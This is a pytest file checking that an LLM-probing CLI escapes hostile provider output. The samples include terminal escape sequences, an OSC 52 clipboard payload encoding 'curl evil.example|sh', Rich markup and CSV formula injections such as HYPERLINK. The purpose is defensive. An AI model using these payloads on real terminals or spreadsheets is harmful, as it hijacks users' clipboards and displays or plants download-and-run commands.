"""A provider's bytes never reach the terminal from the CLI: text, error bodies,
model ids, hosts and notes carrying escape sequences (OSC 0 title, OSC 52
clipboard, CSI 2J), C1 controls, Rich markup (`[/INST]`, `[link=…]`), emoji
codes and lone surrogates go through every command's output; no raw control
character comes out, and the visible text is intact."""

from __future__ import annotations

import json
import re
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import StringIO

import pytest
from rich.console import Console

from infertui.cli import main
from infertui.cli.render import LiveTable, print_summary
from infertui.cli.show import print_session
from infertui.core.events import ProbeFinished, ProbeSent
from infertui.core.result import Chunk, ChunkKind, ErrorKind, ProbeError, ProbeResult, Status, Usage
from infertui.core.session import RunSettings, Session
from infertui.core.targets import Api, ProbeParams, Provider, Target
from infertui.store import paths
from infertui.store.export import render
from infertui.store.repository import Store

OSC_TITLE = "\x1b]0;pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
CLEAR = "\x1b[2J"
C1 = "\x9b31m\x85"
MARKUP = "[/INST] [link=http://evil.example]click[/link] [bold]b[/bold] [/x]"
EMOJI = ":smile: :thumbs_up:"
HOSTILE = f"a{OSC_TITLE}b{OSC_CLIPBOARD}c{CLEAR}d{C1}e {MARKUP} {EMOJI}\r\n2nd line\tend"
SURROGATE = "lone\ud800surrogate"

# What must be visible: the markup and emoji codes literally, the controls as escapes.
VISIBLE = ["[/INST]", "[link=http://evil.example]click[/link]", "[bold]b[/bold]", "[/x]",
           ":smile:", ":thumbs_up:", "\\x1b]0;pwned\\x07", "\\x1b]52;c;", "\\x1b[2J",
           "\\x9b31m", "\\x85"]
_RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def assert_clean(output: str, *visible: str) -> None:
    raw = _RAW_CONTROL.findall(output)
    assert not raw, f"raw control characters reached the terminal: {raw!r}"
    output.encode("utf-8")  # every character can be written
    for text in visible:
        assert text in output, f"{text!r} is not visible in the output"


MODEL = "m[/x]" + OSC_TITLE
TARGET = Target(Provider("evil" + CLEAR, Api.OPENAI, "http://127.0.0.1:9/v1"), MODEL)


def hostile_session(session_id: str = "0190ffffffffaaaaaaaaaa", text: str = HOSTILE) -> Session:
    ok = ProbeResult(
        "p-ok", TARGET, seq=0, status=Status.OK, http_status=200,
        first_content_ns=100_000_000, first_reasoning_ns=50_000_000, last_token_ns=400_000_000,
        end_ns=401_000_000,
        chunks=[Chunk(50_000_000, ChunkKind.REASONING, "think " + text),
                Chunk(100_000_000, ChunkKind.CONTENT, text),
                Chunk(400_000_000, ChunkKind.CONTENT, " tail")],
        usage=Usage(output_tokens=30), finish_reason="stop" + OSC_TITLE,
        server_model=MODEL, request_id="req" + OSC_CLIPBOARD)
    failed = ProbeResult(
        "p-err", TARGET, seq=1, status=Status.ERROR, http_status=400,
        error=ProbeError(ErrorKind.BAD_REQUEST, "bad: " + text, 400))
    return Session(session_id, "2026-01-01T00:00:00Z",
                   ProbeParams("What does the [/INST] token do? " + text, system="sys " + text),
                   [TARGET], RunSettings(repeat=2), [failed, ok],
                   finished_at="2026-01-01T00:00:01Z", notes="note " + text,
                   host="host" + OSC_TITLE + "[link=http://evil.example]h[/link]")


@pytest.fixture
def stored():
    session = hostile_session()
    with Store.open() as store:
        store.create_session(session)
        for probe in session.probes:
            store.save_probe(session.session_id, probe)
    return session.session_id


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_show_prints_the_session_without_control_or_markup(capsys, stored):
    code, out, err = run(capsys, "show", stored)
    assert code == 0
    assert_clean(out + err, "[/INST]", "[link=http://evil.example]h[/link]", "m[/x]\\x1b]0;pwned",
                 "bad_request: bad:", "a\\x1b]0;pwned\\x07b", "stop\\x1b]0;pwned\\x07")
    assert "provider default" in out and "None" not in out and "False" not in out


def test_show_outputs_prints_the_text_exactly_as_received(capsys, stored):
    code, out, err = run(capsys, "show", stored, "--outputs")
    assert code == 0
    assert_clean(out + err, *VISIBLE)
    # The text as received: controls (\r included) as escapes, every other
    # character as itself, lines and tabs kept, nothing wrapped.
    shown = ("a\\x1b]0;pwned\\x07b\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07c\\x1b[2Jd"
             "\\x9b31m\\x85e " + MARKUP + " " + EMOJI + "\\x0d\n2nd line\tend tail")
    assert shown in out
    assert "think a\\x1b]0;pwned" in out


def test_history_and_search_list_the_session_safely(capsys, stored):
    for argv in (["history"], ["search", "INST"], ["history", "--json"], ["search", "INST", "--json"]):
        code, out, err = run(capsys, *argv)
        assert code == 0 and stored in out
        assert_clean(out + err)
        if "--json" not in argv:
            assert "[/INST]" in out


def test_exports_show_data_literally(capsys, stored):
    code, out, err = run(capsys, "export", stored, "--format", "md")
    assert code == 0
    assert_clean(out + err, "[/INST]", "[link=http://evil.example]click[/link]", ":smile:")
    # Markdown shows provider data as code, so `[link](…)`, HTML or emphasis stay text.
    assert "`bad_request: bad: a\\x1b]0;pwned\\x07b" in out
    code, out, err = run(capsys, "export", stored, "--format", "csv")
    assert code == 0 and out.count("\n") == 3  # header and one line per probe
    assert_clean(out + err, "bad: a\\x1b]0;pwned\\x07b")
    code, out, err = run(capsys, "export", stored, "--format", "json")
    assert code == 0
    assert_clean(out + err)
    doc = json.loads(out)  # the same values, only written as JSON escapes
    assert doc["probes"][0]["error"]["message"] == "bad: " + HOSTILE


def test_import_of_a_crafted_document_then_show(capsys, tmp_path):
    doc = hostile_session("0190eeeeeeeeaaaaaaaaaa").to_json()
    path = tmp_path / ("export" + "\x1b[2J" + ".json")
    path.write_text(json.dumps(doc))
    code, out, err = run(capsys, "import", str(path))
    assert code == 0
    assert_clean(out + err, "\\x1b[2J.json")
    code, out, err = run(capsys, "show", "0190eeeeeeeeaaaaaaaaaa", "--outputs")
    assert code == 0
    assert_clean(out + err, *VISIBLE)


def test_lone_surrogates_are_shown_not_crashing():
    session = hostile_session(text=SURROGATE + HOSTILE)
    for outputs in (False, True):
        out = StringIO()
        print_session(session, outputs=outputs,
                      console=Console(file=out, width=120, markup=False, emoji=False))
        assert_clean(out.getvalue(), "lone\ufffdsurrogate")
    out = StringIO()
    print_summary(session, Console(file=out, width=100))
    assert_clean(out.getvalue(), "lone\ufffdsurrogate", "[link=http://evil.example]click[/link]")
    for fmt in ("md", "csv"):
        assert_clean(render([session], fmt).encode("utf-8", "surrogatepass").decode("utf-8", "replace"))


def test_the_live_table_shows_hostile_labels_and_errors():
    out = StringIO()
    table = LiveTable([TARGET], RunSettings(repeat=2),
                      console=Console(file=out, width=80, force_terminal=False))
    session = hostile_session()
    table.on_event(ProbeSent("p-err", TARGET, 1, False))
    for probe in session.probes:
        table.on_event(ProbeFinished(probe))
    table.console.print(table._render())
    assert_clean(out.getvalue(), "m[/x]")


def test_config_check_shows_names_and_notices_safely(capsys):
    config = paths.config_file()
    config.parent.mkdir(parents=True, exist_ok=True)
    config.write_text('[providers."ev[/x]il\\u001b]0;t\\u0007"]\napi = "openai"\n'
                      'base_url = "http://10.9.9.9:1/v1"\n')
    paths.state_file().write_text('[prompts."[/x]\\u001b[2J"]\ntext = "hi"\nbogus = 1\n')
    code, out, err = run(capsys, "config", "check")
    assert_clean(out + err)
    if code == 0:
        assert "ev[/x]il\\x1b]0;t\\x07" in out
    assert "Traceback" not in err


# --- probe against a hostile server -----------------------------------------------------

class _HostileProvider(BaseHTTPRequestHandler):
    """OpenAI-compatible: model 'ok…' streams hostile text under a hostile
    model id; any other model gets HTTP 400 with a hostile error body."""

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        if not body["model"].startswith("ok"):
            payload = json.dumps({"error": {"message": "bad: " + HOSTILE + SURROGATE}}).encode()
            self.send_response(400)
            self.send_header("content-type", "application/json")
            self.send_header("content-length", str(len(payload)))
            self.end_headers()
            self.wfile.write(payload)
            return
        self.send_response(200)
        self.send_header("content-type", "text/event-stream")
        self.end_headers()
        events = [{"choices": [{"delta": {"content": piece}}]} for piece in (HOSTILE, " ", SURROGATE)]
        events.append({"choices": [{"delta": {}, "finish_reason": "stop"}]})
        events.append({"choices": [], "usage": {"prompt_tokens": 3, "completion_tokens": 40}})
        for event in events:
            event.update(id="chatcmpl-" + OSC_TITLE, model=MODEL)
            self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
        self.wfile.write(b"data: [DONE]\n\n")

    def log_message(self, *args):
        pass


@contextmanager
def hostile_server():
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileProvider)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/v1"
    finally:
        server.shutdown()


def test_probe_summary_and_error_lines_against_a_hostile_server(capsys):
    with hostile_server() as url:
        code, out, err = run(capsys, "probe", "--no-save", "--base-url", url, "--model", "ok" + MARKUP,
                             "--model", "bad[/x]" + OSC_TITLE, "-n", "2")
        assert code == 0
        assert_clean(out + err, "ok[/INST]", "bad[/x]\\x1b]0;pwned", "bad: a\\x1b]0;pwned\\x07b",
                     "[link=http://evil.example]click[/link]")
        code, out, err = run(capsys, "probe", "--no-save", "--json", "--base-url", url,
                             "--model", "ok", "--model", "bad")
        assert code == 0
        assert_clean(out + err)
        doc = json.loads(out)
        assert {p["status"] for p in doc["probes"]} == {"ok", "error"}


@pytest.mark.parametrize("formula", ["=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1",
                                     "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_csv_cells_a_server_wrote_never_start_a_formula(capsys, tmp_path, formula):
    """A spreadsheet runs a cell beginning with = + - @ (or a tab or CR before
    one) as a formula: every text cell a server or a file could fill is
    written with a leading ' then, which spreadsheets show and do not run;
    numbers stay numbers."""
    import csv
    import io

    session = hostile_session("0190ffffffffbbbbbbbbbb", text="x")
    failed, ok = session.probes
    failed.error = ProbeError(ErrorKind.BAD_REQUEST, formula, 400)
    ok.server_model, ok.request_id, ok.finish_reason = formula, formula, formula
    with Store.open() as store:
        store.create_session(session)
        for probe in session.probes:
            store.save_probe(session.session_id, probe)
    code, out, _ = run(capsys, "export", session.session_id, "--format", "csv")
    assert code == 0
    rows = {row["probe_id"]: row for row in csv.DictReader(io.StringIO(out))}
    cells = [rows["p-err"]["error_message"], rows["p-ok"]["server_model"],
             rows["p-ok"]["request_id"], rows["p-ok"]["finish_reason"]]
    for cell in cells:
        assert cell.startswith("'"), cells
        assert cell[1:].lstrip("\\tr") != "" and cell[1:2] in "=+-@\\", cells
    assert rows["p-ok"]["ttft_ms"] == "100.0" and rows["p-ok"]["output_tokens"] == "30"
